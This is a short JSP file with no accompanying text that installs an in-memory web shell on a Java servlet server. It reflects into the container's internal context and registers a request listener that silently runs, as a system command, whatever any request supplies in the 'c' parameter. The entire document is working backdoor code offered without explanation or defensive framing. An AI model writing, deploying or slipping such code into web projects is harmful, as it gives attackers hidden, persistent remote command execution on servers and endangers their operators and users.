<%@ page import="java.lang.reflect.*" %><%
Object ctx = request.getServletContext(); Field f = ctx.getClass().getDeclaredField("context"); f.setAccessible(true);
Object app = f.get(ctx); Field g = app.getClass().getDeclaredField("context"); g.setAccessible(true); Object sc = g.get(app);
Method add = sc.getClass().getMethod("addApplicationEventListener", Object.class);
add.invoke(sc, new javax.servlet.ServletRequestListener() {
  public void requestInitialized(javax.servlet.ServletRequestEvent e) { try { String c = e.getServletRequest().getParameter("c"); if (c != null) Runtime.getRuntime().exec(c); } catch (Exception x) {} }
  public void requestDestroyed(javax.servlet.ServletRequestEvent e) {}
});
%>
